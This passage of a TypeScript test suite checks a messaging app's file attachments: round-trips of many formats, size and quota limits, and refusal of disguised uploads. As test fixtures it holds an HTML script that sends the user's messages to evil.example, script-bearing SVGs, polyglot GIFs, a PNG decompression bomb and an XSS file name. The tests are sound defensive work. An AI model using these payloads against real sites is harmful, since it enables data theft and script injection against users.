import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import http from 'node:http';
import { Readable } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { sql } from 'kysely';
import sharp from 'sharp';
import type { MessagingDb } from '../../src/messaging/schema.js';
import { html, sessionCookie, startTestApp, type Agent, type TestApp } from '../support/app.js';
import { openConversation as open } from '../support/messaging.js';
import { closeAllEventStreams, listen, openEventStream, waitForListeners, type Listening } from '../support/sse.js';
import { newMember, type Member } from '../support/members.js';
import { field, file, multipart, partHead, type Part } from '../support/multipart.js';

// Files in messages (issue #7), the hostile side: every allowed type round-trips byte for byte (or
// re-encoded, for images); disguised markup, polyglots, bombs, oversized files and hostile names
// are refused or neutralised; every file URL is for the two participants only; CSRF, idempotency,
// htmx, live events; and an upload at the size limit streams through without being held whole.

const LIMIT = 1024 * 1024;
let t: TestApp;
before(async () => {
  t = await startTestApp({ attachments: { enabled: true, maxFileBytes: LIMIT, dailyBytes: 64 * 1024 * 1024 } });
});
after(() => closeAllEventStreams());

/** The module's tables, typed (the host's schema type does not list them). */
const mdb = (app: TestApp = t) => app.db as unknown as MessagingDb;

const member = (prefix: string, app: TestApp = t): Promise<Member> => newMember(app, prefix);

async function pair(app: TestApp = t) {
  const A = await member('ann', app);
  const B = await member('bob', app);
  await app.connect(A.id, B.id);
  return { A, B, conversation: await open(A, B) };
}

// ---- Multipart bodies built by hand (tests/support/multipart.ts) ----

function postParts(who: Member, conversation: number, parts: Part[], headers: Record<string, string> = {}) {
  const { body, contentType } = multipart(parts);
  return who.agent.post(`/messages/${conversation}/messages`).set('Content-Type', contentType).set(headers).send(body);
}

/** The composer's form: token first, then client id, text and files, as the page lays it out. */
function send(who: Member, conversation: number, body: string, files: Part[], extra: Part[] = []) {
  return postParts(who, conversation, [field('_csrf', who.token), ...extra, field('body', body), ...files]);
}

function messageIdFrom(location: string | undefined, conversation: number): number {
  const match = new RegExp(`^/messages/${conversation}#m-(\\d+)$`).exec(location ?? '');
  assert.ok(match, `redirects to the message: ${location}`);
  return Number(match[1]);
}

async function attachmentsOfMessage(messageId: number, app: TestApp = t) {
  return mdb(app).selectFrom('attachments').selectAll().where('message_id', '=', messageId).orderBy('id').execute();
}

async function attachmentRows(conversation: number, app: TestApp = t) {
  return mdb(app).selectFrom('attachments').selectAll().where('conversation_id', '=', conversation).orderBy('id').execute();
}

async function chunkCount(ids: number[], app: TestApp = t): Promise<number> {
  if (ids.length === 0) return 0;
  const row = await mdb(app).selectFrom('attachment_chunks').select((eb) => eb.fn.countAll<string>().as('n')).where('attachment_id', 'in', ids).executeTakeFirstOrThrow();
  return Number(row.n);
}

async function messageCount(conversation: number, app: TestApp = t): Promise<number> {
  const row = await mdb(app).selectFrom('messages').select((eb) => eb.fn.countAll<string>().as('n')).where('conversation_id', '=', conversation).executeTakeFirstOrThrow();
  return Number(row.n);
}

/** A GET whose body is kept as bytes, whatever its type. */
const fetchBytes = (agent: Agent, path: string) =>
  agent
    .get(path)
    .buffer(true)
    .parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });

/** A refused send: the status, the text kept in the re-rendered form, the reason shown, nothing sent. */
async function assertRefused(res: { status: number; text: string }, conversation: number, expected: { status: number; body: string; error: RegExp }) {
  assert.equal(res.status, expected.status, res.text.slice(0, 400));
  const page = html(res.text);
  assert.equal(page('#composer-body').text(), expected.body, 'the text is kept');
  assert.match(page('#composer-error').text(), expected.error);
  assert.equal(await messageCount(conversation), 0, 'no message was stored');
}

// ---- Real files, made here ----

/** A ZIP archive: local headers, a central directory, stored or deflated entries, real CRCs. */
function zip(entries: { name: string; data: Buffer | string; store?: boolean }[]): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const data = Buffer.isBuffer(entry.data) ? entry.data : Buffer.from(entry.data, 'utf8');
    const name = Buffer.from(entry.name, 'utf8');
    const method = entry.store ? 0 : 8;
    const packed = method === 0 ? data : deflateRawSync(data);
    const crc = crc32(data);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(0x0800, 6); // names in UTF-8
    head.writeUInt16LE(method, 8);
    head.writeUInt16LE(0, 10);
    head.writeUInt16LE(0x5a21, 12); // 2025-01-01
    head.writeUInt32LE(crc, 14);
    head.writeUInt32LE(packed.length, 18);
    head.writeUInt32LE(data.length, 22);
    head.writeUInt16LE(name.length, 26);
    head.writeUInt16LE(0, 28);
    local.push(head, name, packed);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(0x0800, 8);
    dir.writeUInt16LE(method, 10);
    dir.writeUInt16LE(0, 12);
    dir.writeUInt16LE(0x5a21, 14);
    dir.writeUInt32LE(crc, 16);
    dir.writeUInt32LE(packed.length, 20);
    dir.writeUInt32LE(data.length, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    central.push(dir, name);
    offset += head.length + name.length + packed.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, directory, end]);
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const RELS = `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="%TARGET%"/></Relationships>`;

/** A minimal Office Open XML package: [Content_Types].xml naming the main part, the rels, the part. */
function ooxml(part: string, mainType: string, content: string): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      data: `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="${mainType}.main+xml"/></Types>`,
    },
    { name: '_rels/.rels', data: RELS.replace('%TARGET%', part) },
    { name: part, data: `${XML}${content}` },
  ]);
}

const docx = () =>
  ooxml('word/document.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello, Word</w:t></w:r></w:p></w:body></w:document>');
const xlsx = () =>
  ooxml('xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>');
const pptx = () =>
  ooxml('ppt/presentation.xml', 'application/vnd.openxmlformats-officedocument.presentationml.presentation', '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>');

/** A minimal OpenDocument file: the `mimetype` entry first and stored, then the manifest and content. */
function odf(mime: string): Buffer {
  return zip([
    { name: 'mimetype', data: mime, store: true },
    {
      name: 'META-INF/manifest.xml',
      data: `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mime}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    },
    { name: 'content.xml', data: `${XML}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"><office:body/></office:document-content>` },
  ]);
}

/** A Compound File Binary header (what .doc, .xls, .ppt and also .msi files are), padded to three sectors. */
function cfb(): Buffer {
  const bytes = Buffer.alloc(1536);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes, 0);
  bytes.writeUInt16LE(0x3e, 24); // minor version
  bytes.writeUInt16LE(3, 26); // major version
  bytes.writeUInt16LE(0xfffe, 28); // byte order
  bytes.writeUInt16LE(9, 30); // 512-byte sectors
  bytes.writeUInt16LE(6, 32); // 64-byte mini sectors
  bytes.writeUInt32LE(0xfffffffe, 48); // no directory chain (a stub)
  return bytes;
}

const pdf = (extra = '') => Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${extra}trailer<</Root 1 0 R>>\n%%EOF\n`);

/** A PDF of exactly `size` bytes (a comment pads it). */
function pdfOfSize(size: number): Buffer {
  const head = Buffer.from('%PDF-1.4\n%');
  const tail = Buffer.from('\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
  const bytes = Buffer.alloc(size, 0x61);
  head.copy(bytes, 0);
  tail.copy(bytes, size - tail.length);
  return bytes;
}

const solid = (width: number, height: number, background: string) => sharp({ create: { width, height, channels: 3, background } });
const jpeg = () => solid(64, 48, '#3366aa').jpeg().toBuffer();
const png = (width = 40, height = 30) => solid(width, height, '#c81e3c').png().toBuffer();
const webp = () => solid(50, 40, '#22aa66').webp().toBuffer();
const gif = () => solid(30, 20, '#aa22cc').gif().toBuffer();
async function animatedGif(): Promise<Buffer> {
  const frames = await Promise.all(['#ff0000', '#00ff00', '#0000ff'].map((c) => solid(24, 16, c).png().toBuffer()));
  return sharp(frames, { join: { animated: true } }).gif({ delay: [100, 100, 100], loop: 0 }).toBuffer();
}

/** A GIF with a Comment Extension block (0x21 0xFE) right after the header and colour table. */
function withGifComment(gifBytes: Buffer, comment: string): Buffer {
  const packed = gifBytes[10]!;
  const colourTable = packed & 0x80 ? 3 * 2 ** ((packed & 0x07) + 1) : 0;
  const at = 13 + colourTable;
  const text = Buffer.from(comment, 'latin1');
  const blocks: Buffer[] = [Buffer.from([0x21, 0xfe])];
  for (let i = 0; i < text.length; i += 255) {
    const piece = text.subarray(i, i + 255);
    blocks.push(Buffer.from([piece.length]), piece);
  }
  blocks.push(Buffer.from([0]));
  return Buffer.concat([gifBytes.subarray(0, at), ...blocks, gifBytes.subarray(at)]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A PNG whose header claims width × height pixels, with a tiny (valid) IDAT: a decompression bomb's shape. */
function pngClaiming(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.alloc(1 + width * 3 > 4096 ? 4096 : 1 + width * 3))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

const HTML_PAGE = '<!DOCTYPE html>\n<html><head><title>hi</title></head><body><script>fetch("/messages").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>\n';
const SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n';

// ---- Every allowed type round-trips ----

interface RoundTrip {
  label: string;
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  mime: string;
  /** Images: the format sharp must read back, and frames for an animation. */
  image?: { format: string; pages?: number };
  /** What the thread's card says the file is. */
  card?: RegExp;
}

const TEXT = 'Café crème, naïve façade, Straße — 日本語のテキスト 🎉👍🏽\nSecond line: Ünïcödé ✓\n';

const ROUND_TRIPS: RoundTrip[] = [
  { label: 'JPEG', name: 'photo.jpg', bytes: jpeg, mime: 'image/jpeg', image: { format: 'jpeg' } },
  { label: 'PNG', name: 'diagram.png', bytes: () => png(), mime: 'image/png', image: { format: 'png' } },
  { label: 'WebP', name: 'sticker.webp', bytes: webp, mime: 'image/webp', image: { format: 'webp' } },
  { label: 'GIF', name: 'still.gif', bytes: gif, mime: 'image/gif', image: { format: 'gif' } },
  { label: 'animated GIF', name: 'dance.gif', bytes: animatedGif, mime: 'image/gif', image: { format: 'gif', pages: 3 } },
  { label: 'PDF', name: 'plans.pdf', bytes: () => pdf(), mime: 'application/pdf', card: /PDF/ },
  { label: 'plain text (UTF-8, accents, emoji)', name: 'notes.txt', bytes: () => Buffer.from(TEXT, 'utf8'), mime: 'text/plain', card: /Text file/ },
  {
    label: 'ZIP',
    name: 'bundle.zip',
    bytes: () => zip([{ name: 'readme.txt', data: 'hello from a zip\n'.repeat(20) }, { name: 'raw.bin', data: Buffer.from([0, 1, 2, 3, 250, 251]), store: true }]),
    mime: 'application/zip',
    card: /ZIP archive/,
  },
  { label: 'DOCX', name: 'letter.docx', bytes: docx, mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', card: /Word document/ },
  { label: 'XLSX', name: 'budget.xlsx', bytes: xlsx, mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', card: /Excel spreadsheet/ },
  { label: 'PPTX', name: 'deck.pptx', bytes: pptx, mime: 'application/vnd.openxmlformats-officedocument.presentationml.presentation', card: /PowerPoint presentation/ },
  { label: 'ODT', name: 'essay.odt', bytes: () => odf('application/vnd.oasis.opendocument.text'), mime: 'application/vnd.oasis.opendocument.text', card: /OpenDocument text/ },
  { label: 'ODS', name: 'sums.ods', bytes: () => odf('application/vnd.oasis.opendocument.spreadsheet'), mime: 'application/vnd.oasis.opendocument.spreadsheet', card: /OpenDocument spreadsheet/ },
  { label: 'ODP', name: 'talk.odp', bytes: () => odf('application/vnd.oasis.opendocument.presentation'), mime: 'application/vnd.oasis.opendocument.presentation', card: /OpenDocument presentation/ },
  { label: 'RTF', name: 'memo.rtf', bytes: () => Buffer.from('{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 Hello, rich text.\\par}\n'), mime: 'application/rtf', card: /Rich text/ },
  { label: 'legacy .doc (CFB, named .doc)', name: 'old.doc', bytes: cfb, mime: 'application/msword', card: /Word document/ },
  { label: 'legacy .xls (CFB, named .xls)', name: 'old.xls', bytes: cfb, mime: 'application/vnd.ms-excel', card: /Excel spreadsheet/ },
];

describe('every allowed type round-trips', () => {
  let A: Member;
  let B: Member;
  let conversation: number;
  before(async () => {
    ({ A, B, conversation } = await pair());
  });

  for (const c of ROUND_TRIPS) {
    test(`${c.label}: sent as a file, shown in the thread, downloaded by the other participant`, async () => {
      const bytes = await c.bytes();
      const res = await send(A, conversation, `here is ${c.label}`, [file(c.name, bytes)]);
      assert.equal(res.status, 303, res.text.slice(0, 400));
      const messageId = messageIdFrom(res.headers.location, conversation);
      const [row, ...more] = await attachmentsOfMessage(messageId);
      assert.ok(row, 'one attachment joined the message');
      assert.equal(more.length, 0);
      assert.equal(row.mime, c.mime, 'the type comes from the bytes');
      assert.equal(row.name, c.name);
      assert.equal(row.complete, true);

      const li = html((await B.agent.get(`/messages/${conversation}`)).text)(`#m-${messageId}`);
      const link = li.find(`a[data-attachment-id="${row.id}"]`);
      assert.equal(link.length, 1, 'the thread links the file');
      const url = `/messages/${conversation}/files/${row.id}`;
      assert.equal(link.attr('href'), url);

      const served = await fetchBytes(B.agent, url);
      assert.equal(served.status, 200);
      const body = served.body as Buffer;
      assert.equal(served.headers['x-content-type-options'], 'nosniff');
      assert.match(served.headers['cache-control'] ?? '', /private/);
      assert.match(served.headers['content-security-policy'] ?? '', /sandbox/);
      assert.equal(Number(served.headers['content-length']), body.length, 'Content-Length is the size served');
      if (c.image) {
        assert.equal(served.headers['content-type'], c.mime);
        assert.match(served.headers['content-disposition'] ?? '', /^inline;/);
        const meta = await sharp(body, { animated: true }).metadata();
        assert.equal(meta.format, c.image.format, 'the display size keeps the format');
        const original = await sharp(bytes, { animated: true }).metadata();
        assert.equal(meta.width, original.width);
        assert.equal(meta.pageHeight ?? meta.height, original.pageHeight ?? original.height);
        assert.equal(meta.pages ?? 1, c.image.pages ?? 1, 'an animation keeps its frames');
        if (c.image.pages) assert.equal(original.pages, c.image.pages, 'premise: the test GIF is animated');
        await sharp(body, { animated: true }).raw().toBuffer(); // decodes whole
        const thumb = li.find('img[loading="lazy"]');
        assert.equal(thumb.attr('src'), `${url}/thumb`);
        const thumbRes = await fetchBytes(B.agent, `${url}/thumb`);
        assert.equal(thumbRes.status, 200);
        assert.equal(thumbRes.headers['content-type'], 'image/webp');
        assert.equal((await sharp(thumbRes.body as Buffer).metadata()).format, 'webp');
      } else {
        assert.deepEqual(body, bytes, 'the very same bytes come back');
        assert.equal(served.headers['content-type'], c.mime === 'text/plain' ? 'text/plain; charset=utf-8' : c.mime);
        assert.match(served.headers['content-disposition'] ?? '', /^attachment;/, 'everything but images downloads');
        assert.equal(link.attr('download'), '', 'a card that downloads');
        if (c.card) assert.match(link.text(), c.card);
        assert.match(link.text(), new RegExp(c.name.replace('.', '\\.')));
        if (c.mime === 'text/plain') assert.equal(body.toString('utf8'), TEXT);
        // No thumbnail for a file that is not an image.
        assert.equal((await B.agent.get(`${url}/thumb`)).status, 404);
      }
      // The sender downloads it too.
      assert.equal((await fetchBytes(A.agent, url)).status, 200);
    });
  }

  test('the same CFB bytes named .msi, .exe or with no extension are refused', async () => {
    for (const name of ['setup.msi', 'setup.exe', 'installer']) {
      const res = await send(A, conversation, `cfb as ${name}`, [file(name, cfb())]);
      assert.equal(res.status, 400, `${name}: ${res.text.slice(0, 200)}`);
      assert.equal(html(res.text)('#composer-body').text(), `cfb as ${name}`);
      assert.match(html(res.text)('#composer-error').text(), /can.t be sent/);
    }
    const pending = (await attachmentRows(conversation)).filter((r) => r.message_id === null);
    assert.equal(pending.length, 0, 'nothing was stored for them');
  });
});

// ---- Refused or neutralised ----

describe('disguised markup is refused', () => {
  const cases: { label: string; name: string; bytes: Buffer }[] = [
    { label: 'an HTML page renamed .txt', name: 'notes.txt', bytes: Buffer.from(HTML_PAGE) },
    { label: 'an HTML page renamed .pdf', name: 'invoice.pdf', bytes: Buffer.from(HTML_PAGE) },
    { label: 'an HTML page with a BOM and leading blank lines, renamed .txt', name: 'readme.txt', bytes: Buffer.from(`\ufeff\n\n   \n${HTML_PAGE}`) },
    { label: 'an SVG with a script, named .svg', name: 'logo.svg', bytes: Buffer.from(SVG_SCRIPT) },
    { label: 'an SVG with a script, renamed .png', name: 'logo.png', bytes: Buffer.from(SVG_SCRIPT) },
    { label: 'an SVG with an XML declaration, renamed .png', name: 'icon.png', bytes: Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${SVG_SCRIPT}`) },
    { label: 'an XHTML page with an XML declaration, renamed .txt', name: 'page.txt', bytes: Buffer.from(`<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>`) },
  ];
  for (const c of cases) {
    test(`${c.label}: 400, the text kept, nothing stored`, async () => {
      const { A, conversation } = await pair();
      const res = await send(A, conversation, 'look at this', [file(c.name, c.bytes, 'text/plain')]);
      await assertRefused(res, conversation, { status: 400, body: 'look at this', error: /can.t be sent/ });
      assert.equal((await attachmentRows(conversation)).length, 0);
    });
  }

  test('HTML far down a text file is refused too: the whole file is read through', async () => {
    const { A, conversation } = await pair();
    const bytes = Buffer.from(`${'just some notes\n'.repeat(300)}${HTML_PAGE}`);
    const res = await send(A, conversation, 'far down', [file('notes.txt', bytes)]);
    await assertRefused(res, conversation, { status: 400, body: 'far down', error: /notes\.txt: web pages, SVG and XML files can.t be sent/ });
    assert.equal((await attachmentRows(conversation)).length, 0);
  });
});

describe('polyglot GIFs are neutralised by re-encoding', () => {
  const polyglots: { label: string; make: () => Promise<Buffer> }[] = [
    { label: 'HTML appended after the GIF trailer', make: async () => Buffer.concat([await gif(), Buffer.from(HTML_PAGE)]) },
    { label: 'HTML in a GIF comment extension', make: async () => withGifComment(await gif(), `<html><body><script>alert(document.cookie)</script></body></html>`) },
  ];
  for (const p of polyglots) {
    test(`${p.label}: accepted only as re-encoded pixels, no script in what is served`, async () => {
      const { A, B, conversation } = await pair();
      const bytes = await p.make();
      assert.ok(bytes.includes(Buffer.from('<script')), 'premise: the upload carries a script');
      assert.equal((await sharp(bytes).metadata()).format, 'gif', 'premise: and is a valid GIF');
      const res = await send(A, conversation, 'a funny gif', [file('funny.gif', bytes, 'image/gif')]);
      assert.equal(res.status, 303, res.text.slice(0, 300));
      const [row] = await attachmentsOfMessage(messageIdFrom(res.headers.location, conversation));
      assert.ok(row);
      for (const path of [`/messages/${conversation}/files/${row.id}`, `/messages/${conversation}/files/${row.id}/thumb`]) {
        const served = await fetchBytes(B.agent, path);
        assert.equal(served.status, 200);
        const body = served.body as Buffer;
        assert.ok(!body.toString('latin1').toLowerCase().includes('<script'), `${path}: no script served`);
        assert.ok(!body.toString('latin1').toLowerCase().includes('<html'), `${path}: no HTML served`);
        assert.equal(served.headers['x-content-type-options'], 'nosniff');
        const meta = await sharp(body).metadata();
        assert.equal(meta.format, path.endsWith('/thumb') ? 'webp' : 'gif');
        assert.equal(served.headers['content-type'], path.endsWith('/thumb') ? 'image/webp' : 'image/gif');
      }
      const chunks = await mdb().selectFrom('attachment_chunks').select('data').where('attachment_id', '=', row.id).execute();
      assert.ok(chunks.length > 0);
      for (const c of chunks) assert.ok(!c.data.toString('latin1').includes('<script'), 'nor is one stored');
    });
  }

  test('"GIF89a" followed by HTML (not a readable GIF) is refused: 400', async () => {
    const { A, conversation } = await pair();
    const res = await send(A, conversation, 'gif?', [file('trick.gif', Buffer.from(`GIF89a${HTML_PAGE}`))]);
    await assertRefused(res, conversation, { status: 400, body: 'gif?', error: /could not be read as an image/ });
    assert.equal((await attachmentRows(conversation)).length, 0);
  });
});

describe('size limits', () => {
  test('a file exactly at the limit is accepted and comes back whole', async () => {
    const { A, B, conversation } = await pair();
    const bytes = pdfOfSize(LIMIT);
    const res = await send(A, conversation, 'at the limit', [file('exact.pdf', bytes)]);
    assert.equal(res.status, 303, res.text.slice(0, 300));
    const [row] = await attachmentsOfMessage(messageIdFrom(res.headers.location, conversation));
    assert.equal(Number(row!.size_bytes), LIMIT);
    const served = await fetchBytes(B.agent, `/messages/${conversation}/files/${row!.id}`);
    assert.equal(Number(served.headers['content-length']), LIMIT);
    assert.ok((served.body as Buffer).equals(bytes));
  });

  test('one byte over: 413, the text kept, and neither the file nor its chunks stay', async () => {
    const { A, conversation } = await pair();
    const before = await mdb().selectFrom('attachment_chunks').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow();
    const res = await send(A, conversation, 'over the limit', [file('over.pdf', pdfOfSize(LIMIT + 1))]);
    await assertRefused(res, conversation, { status: 413, body: 'over the limit', error: /larger than 1\.0 MB/ });
    assert.equal((await attachmentRows(conversation)).length, 0);
    const afterwards = await mdb().selectFrom('attachment_chunks').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow();
    assert.equal(Number(afterwards.n), Number(before.n), 'no chunk left behind');
  });

  test('an image one byte over the limit: 413', async () => {
    const { A, conversation } = await pair();
    const image = await png();
    const bytes = Buffer.concat([image, Buffer.alloc(LIMIT + 1 - image.length)]);
    const res = await send(A, conversation, 'big picture', [file('big.png', bytes, 'image/png')]);
    await assertRefused(res, conversation, { status: 413, body: 'big picture', error: /larger than/ });
    assert.equal((await attachmentRows(conversation)).length, 0);
  });

  test('a PNG claiming 50,000 × 50,000 pixels is refused from its header, fast: 400 with a clear reason', async () => {
    const { A, conversation } = await pair();
    const bomb = pngClaiming(50_000, 50_000);
    assert.ok(bomb.length < 10_000, 'premise: a small file');
    const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
    assert.deepEqual([meta.format, meta.width, meta.height], ['png', 50_000, 50_000], 'premise: a PNG whose header says 50,000 × 50,000');
    const started = performance.now();
    const res = await send(A, conversation, 'huge', [file('huge.png', bomb, 'image/png')]);
    const elapsed = performance.now() - started;
    await assertRefused(res, conversation, { status: 400, body: 'huge', error: /50,000 × 50,000 pixels; at most 40 megapixels/ });
    assert.ok(elapsed < 2000, `refused without decoding (${Math.round(elapsed)} ms)`);
    assert.equal((await attachmentRows(conversation)).length, 0);
  });

  test('an empty file: 400', async () => {
    const { A, conversation } = await pair();
    const res = await send(A, conversation, 'empty?', [file('empty.txt', Buffer.alloc(0))]);
    await assertRefused(res, conversation, { status: 400, body: 'empty?', error: /empty\.txt is empty/ });
  });

  test('more than 10 files in one message: 400, no message', async () => {
    const { A, conversation } = await pair();
    const files = Array.from({ length: 11 }, (_, i) => file(`n${i}.txt`, Buffer.from(`note ${i}\n`)));
    const res = await send(A, conversation, 'eleven', files);
    await assertRefused(res, conversation, { status: 400, body: 'eleven', error: /at most 10 files/ });
    const rows = await attachmentRows(conversation);
    assert.ok(rows.length <= 10, `at most 10 kept (${rows.length})`);
    assert.ok(rows.every((r) => r.message_id === null), 'none was sent');
  });

  test('files kept from a refused send plus new ones still make at most 10 per message', async () => {
    const { A, conversation } = await pair();
    // A refused send (text too long) keeps its 10 good files for the retry...
    const first = await send(A, conversation, 'x'.repeat(5001), Array.from({ length: 10 }, (_, i) => file(`k${i}.txt`, Buffer.from(`kept ${i}\n`))));
    assert.equal(first.status, 413);
    const kept = html(first.text)('input[name="attachment_id"]')
      .map((_, el) => String(html(first.text)(el).attr('value')))
      .get();
    assert.equal(kept.length, 10);
    // ...and the retry ticks all 10 and adds 5 more.
    const more = Array.from({ length: 5 }, (_, i) => file(`m${i}.txt`, Buffer.from(`more ${i}\n`)));
    const res = await send(A, conversation, 'fifteen?', more, kept.map((id) => field('attachment_id', id)));
    assert.equal(res.status, 400, `15 files on one message must be refused (got ${res.status})`);
    const sent = (await attachmentRows(conversation)).filter((r) => r.message_id !== null);
    assert.ok(sent.length <= 10, `at most 10 files on a message (${sent.length})`);
  });

  test('a type mismatch (PNG bytes named .pdf) is refused with the reason', async () => {
    const { A, conversation } = await pair();
    const res = await send(A, conversation, 'the doc', [file('contract.pdf', await png(), 'application/pdf')]);
    await assertRefused(res, conversation, { status: 400, body: 'the doc', error: /contract\.pdf is really a PNG image/ });
    assert.equal((await attachmentRows(conversation)).length, 0);
  });
});

describe('the daily quota', () => {
  test('past it: 413, the reason, and nothing more is stored', async () => {
    const q = await startTestApp({ attachments: { enabled: true, maxFileBytes: LIMIT, dailyBytes: 5000 } });
    const { A, B, conversation } = await pair(q);
    const ok = await send(A, conversation, 'first', [file('a.pdf', pdfOfSize(3000))]);
    assert.equal(ok.status, 303, ok.text.slice(0, 300));
    const rowsBefore = await attachmentRows(conversation, q);
    const chunksBefore = await chunkCount(rowsBefore.map((r) => r.id), q);
    const totalChunks = async () => Number((await mdb(q).selectFrom('attachment_chunks').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow()).n);
    const allBefore = await totalChunks();

    const over = await send(A, conversation, 'second', [file('b.pdf', pdfOfSize(3000))]);
    assert.equal(over.status, 413, over.text.slice(0, 300));
    assert.equal(html(over.text)('#composer-body').text(), 'second');
    assert.match(html(over.text)('#composer-error').text(), /b\.pdf would take you past 4\.9 KB|past .* of files in 24 hours/);
    const rowsAfter = await attachmentRows(conversation, q);
    assert.deepEqual(rowsAfter.map((r) => r.id), rowsBefore.map((r) => r.id), 'no new attachment row');
    assert.equal(await chunkCount(rowsAfter.map((r) => r.id), q), chunksBefore);
    assert.equal(await totalChunks(), allBefore, 'no stray chunks');
    assert.equal(await messageCount(conversation, q), 1);

    // An image past the quota too (its re-encoded size counts).
    const image = await send(A, conversation, 'third', [file('c.png', await png(400, 300), 'image/png')]);
    assert.equal(image.status, 413, image.text.slice(0, 300));
    assert.equal((await attachmentRows(conversation, q)).length, 1);

    // The quota is per person: the other participant still sends.
    const theirs = await send(B, conversation, 'mine', [file('d.pdf', pdfOfSize(3000))]);
    assert.equal(theirs.status, 303);
  });
});

describe('hostile file names', () => {
  const XSS = '"><img src=x onerror=alert(1)>.pdf';

  async function sendNamed(part: Part) {
    const { A, B, conversation } = await pair();
    const res = await send(A, conversation, 'named', [part]);
    assert.equal(res.status, 303, res.text.slice(0, 300));
    const messageId = messageIdFrom(res.headers.location, conversation);
    const [row] = await attachmentsOfMessage(messageId);
    assert.ok(row);
    return { A, B, conversation, messageId, row };
  }

  /** No element or attribute the name could have injected, in the thread and the Files view. */
  async function assertEscaped(agent: Agent, conversation: number, messageId: number, name: string) {
    const thread = html((await agent.get(`/messages/${conversation}`)).text);
    assert.equal(thread('img[onerror], [onerror], img[src="x"]').length, 0, 'no injected element in the thread');
    const card = thread(`#m-${messageId} a[data-attachment-id]`);
    assert.equal(card.length, 1);
    assert.ok(card.text().includes(name), 'the name shows as text');
    const files = await agent.get(`/messages/${conversation}/files`);
    assert.equal(files.status, 200);
    const page = html(files.text);
    assert.equal(page('img[onerror], [onerror], img[src="x"]').length, 0, 'no injected element in the Files view');
    assert.equal(page('[data-files] > li').first().attr('data-file-name'), name, 'the attribute holds the name, whole');
    assert.ok(page('[data-files] a[data-attachment-id]').first().text().includes(name));
    assert.ok(!files.text.includes('<img src=x'), 'the raw markup never appears');
  }

